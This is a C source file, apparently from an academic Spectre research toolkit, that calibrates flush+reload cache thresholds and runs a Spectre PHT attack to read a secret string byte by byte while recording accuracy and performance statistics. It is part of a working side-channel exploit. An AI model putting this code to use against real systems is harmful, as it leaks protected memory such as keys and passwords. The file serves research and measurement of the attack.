@@ -0,0 +1,170 @@
+/**
+ * \brief  Experiment.
+ * \author Pierre AYOUB -- IRISA, CNRS
+ * \date   2020
+ *
+ * \details One complete experiment reads the whole secret with Spectre and
+ *          report statistics about it. It is shared between the command-line
+ *          program and the library.
+ */
+
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <stdint.h>
+#include <unistd.h>
+#include <time.h>
+
+/* Contain ARMv8 or x86-64 implementation of flush, rdtsc and [im]fence. */
+#include "asm.h"
+/* Contain "perf_event" functions. */
+#include "perf.h"
+/* Contain utilities and helper functions. */
+#include "util.h"
+/* Used for \sa {receiver_read()}. */
+#include "receiver.h"
+/* Used for \sa {spectre_pht_sa_op_search()}. */
+#include "spectre_pht_sa_op.h"
+
+#include "experiment.h"
+
+void experiment_prepare(struct spectre_ctx * ctx) {
+    /* Write to the probe array to force not copy-on-write zero pages in
+       RAM. If not, his latency of writing will be too high to be possible
+       in the transient execution window. */
+    memset(ctx->array2, 1, sizeof(ctx->array2));
+    mfence();
+}
+
+void experiment_calibrate(struct spectre_ctx * ctx, struct calibration * cal, int first) {
+    struct arguments * args = &ctx->args;
+
+    /* Compute the cache hit thresholds if not already specified. If a
+       calibration cache is used, only the first experiment loads (or
+       computes and stores) it. The simulated channel is calibrated against
+       its model, and never cached. */
+    if (args->cache_threshold) {
+        cal->threshold = args->cache_threshold;
+        for (int i = 0; i < 256; i++)
+            cal->map[i] = cal->threshold;
+    } else if (ctx->sim) {
+        sim_calibrate(ctx->sim, cal);
+    } else if (!args->calibration_cache) {
+        flush_reload_calibrate(cal, args->per_line, ctx->array2, PAGESIZE);
+    } else if (first
+               && (calibration_load(cal, args->calibration_cache, PAGESIZE)
+                   || cal->per_line != args->per_line
+                   || !flush_reload_validate(cal))) {
+        flush_reload_calibrate(cal, args->per_line, ctx->array2, PAGESIZE);
+        calibration_store(cal, args->calibration_cache, PAGESIZE);
+    }
+    ctx->threshold = cal->threshold;
+    for (int i = 0; i < 256; i++)
+        SPREAD(ctx->thresholds, i) = cal->map[i];
+    /* Place the shadow of the out-of-place variant, once the thresholds are
+       known: it is part of the setup kept by a checkpoint. */
+    spectre_pht_sa_op_search(ctx);
+}
+
+void experiment_run(struct spectre_ctx * ctx, struct experiment_stats * stats) {
+    /* Distance between legitimate array and secret to read. Spectre will
+       attempt to read at this offset and iterate over following bytes. */
+    size_t malicious_x = (size_t) (ctx->secret - (char*) ctx->array1);
+    /* Number of iteration to perform from malicious_x, corresponding to
+       the length of the secret. */
+    int malicious_it = strlen(ctx->secret);
+
+    /* Array of all guesses, filled one byte at a time when trying to guess
+       the secret. */ 
+    uint8_t * guesses_values = calloc(malicious_it + 1, sizeof(*guesses_values));
+    /* Array of all guess's scores. For one score, the higher the better,
+     * unless it's very low because we have a clear success, which is even
+     * better. */
+    int * guesses_scores = calloc(malicious_it + 1, sizeof(*guesses_scores));
+    /* Final scores of all possibilities for the current byte, and number
+       of cache hits counted for all bytes. A false hit is a hit on a line
+       which doesn't correspond to the secret byte, mostly produced by the
+       prefetcher. */
+    int scores[256];
+    long hits = 0, false_hits = 0;
+    /* Wall-clock time of the experiment, for the confusion matrix. */
+    struct timespec wall_start, wall_end;
+
+    /* Place the shadow of the out-of-place variant before the measures, if
+       the variant changed since the last calibration (e.g. through
+       libspectre). Nothing is done if already placed. */
+    spectre_pht_sa_op_search(ctx);
+
+    /* Initialize and start performance counters, meaningless for the
+       simulated channel. */
+    /* They are local to the run, and count the calling thread only. */
+    int perf = !gem5_is_sim() && !ctx->sim;
+    struct perf_counters counters;
+    if (perf)
+        perf_init(&counters);
+
+    /* Start time of experiment. */
+    clock_gettime(CLOCK_MONOTONIC, &wall_start);
+    register uint64_t time_start = rdtsc();
+        
+    /* Iterate over each secret's byte. */
+    for (int i = 0; i < malicious_it; i++, malicious_x++) {
+        /* Read one byte at offset malicious_x from array1. Store the
+           guessed value and its corresponding score. */
+        receiver_read(ctx, malicious_x, &guesses_values[i], &guesses_scores[i], scores);
+        hits       += int_sum(scores, 256);
+        false_hits += int_sum(scores, 256) - scores[(uint8_t) ctx->secret[i]];
+        /* Tries spent by the guess: the receiver stops with tries left
+           after a clear success. */
+        if (ctx->confusion)
+            confusion_add(ctx->confusion, ctx->secret[i], guesses_values[i],
+                          ctx->args.tries - ctx->tries + (ctx->tries > 0));
+    }
+
+    /* Register end of the experiment. */
+    register uint64_t time_end = rdtsc();
+    clock_gettime(CLOCK_MONOTONIC, &wall_end);
+    if (ctx->confusion)
+        ctx->confusion->seconds += (wall_end.tv_sec - wall_start.tv_sec) + (wall_end.tv_nsec - wall_start.tv_nsec) * 1e-9;
+
+    /* Get and close the performance counters. */
+    stats->cache_misses  = 0;
+    stats->branch_misses = 0;
+    if (perf) {
+        stats->cache_misses  = perf_read_cache_miss(&counters);
+        stats->branch_misses = perf_read_branch_miss(&counters);
+        perf_close(&counters);
+    }
+
+    /* Compute the statistics. */
+    stats->total_bytes    = malicious_it;
+    stats->correct_bytes  = malicious_it - string_hamming_dist(ctx->secret, (char *) guesses_values, malicious_it);
+    stats->score_sum      = int_sum(guesses_scores, malicious_it);
+    stats->elapsed        = time_end - time_start;
+    stats->false_hit_rate = hits ? (double) false_hits / hits : 0.0;
+
+    /* Measure the cost of the victim, outside of the attack. */
+    stats->victim_latency    = 0;
+    stats->victim_throughput = 0;
+    if (ctx->args.victim_bench)
+        spectre_victim_bench(ctx, ctx->args.victim_bench, &stats->victim_latency, &stats->victim_throughput);
+
+    /* Freeing memory. */
+    guesses_values = (free(guesses_values), NULL);
+    guesses_scores = (free(guesses_scores), NULL);
+}
+
+void experiment_stats_write(int fd, struct experiment_stats * stats) {
+    char stat_entry[1024];
+    snprintf(stat_entry, 1024, "%d,%d,%d,%lu,%lu,%lu,%.4f,%.2f,%.0f\n",
+             stats->total_bytes,
+             stats->correct_bytes,
+             stats->score_sum,
+             stats->elapsed,
+             stats->cache_misses,
+             stats->branch_misses,
+             stats->false_hit_rate,
+             stats->victim_latency,
+             stats->victim_throughput);
+    write(fd, stat_entry, strlen(stat_entry));
+}